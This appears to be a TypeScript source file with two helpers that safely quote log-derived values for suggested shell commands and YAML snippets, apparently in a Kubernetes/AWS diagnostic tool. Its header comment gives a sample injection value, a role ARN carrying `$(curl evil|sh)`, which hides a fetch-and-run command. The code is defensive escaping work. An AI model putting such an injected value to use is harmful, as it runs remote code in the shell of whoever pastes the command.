/**
 * Values from logs that go into a command line or a YAML snippet a user may paste: a crafted rolearn such as
 * `arn:aws:iam::1:role/x$(curl evil|sh)` must stay one inert word. These two helpers are the only way a rule
 * puts such a value into a suggested command or snippet. Plain values (ARNs, node names, cluster names) come
 * back as they are, so ordinary output reads unchanged.
 */

/** Characters that mean nothing to a POSIX shell, in any position. */
const SHELL_PLAIN = /^[A-Za-z0-9_@%+=:,./-]+$/;

/**
 * One POSIX shell word: as is when it holds only characters a shell passes through literally, else in single
 * quotes, an embedded single quote written as '\'' (close, escaped quote, reopen). Inside single quotes nothing
 * is special: no $( ), no backticks, no globbing.
 */
export function shellArg(value: string): string {
  if (SHELL_PLAIN.test(value) && !value.startsWith('-') && !value.startsWith('=')) return value;
  return `'${value.replace(/'/g, `'\\''`)}'`;
}

/** YAML words that a plain scalar would turn into another type (booleans, null, numbers in YAML 1.1 and 1.2). */
const YAML_SPECIAL = /^(?:~|null|Null|NULL|true|True|TRUE|false|False|FALSE|y|Y|yes|Yes|YES|n|N|no|No|NO|on|On|ON|off|Off|OFF|[-+]?(?:\.?\d[\d_.]*(?:e[-+]?\d+)?|\.inf|\.nan|0x[0-9a-f]+|0o[0-7]+))$/i;

/**
 * One YAML scalar that reads back as exactly `value`, a string, in block and flow context: plain when it is
 * made of name characters (an ARN, a group name) and means nothing else to YAML, else double-quoted with JSON
 * escapes (JSON strings are YAML 1.2 double-quoted scalars).
 */
export function yamlScalar(value: string): string {
  const plain = /^[A-Za-z0-9][A-Za-z0-9:._/@-]*$/.test(value) && !value.includes('://') && !YAML_SPECIAL.test(value) && !/:$/.test(value);
  return plain ? value : JSON.stringify(value);
}
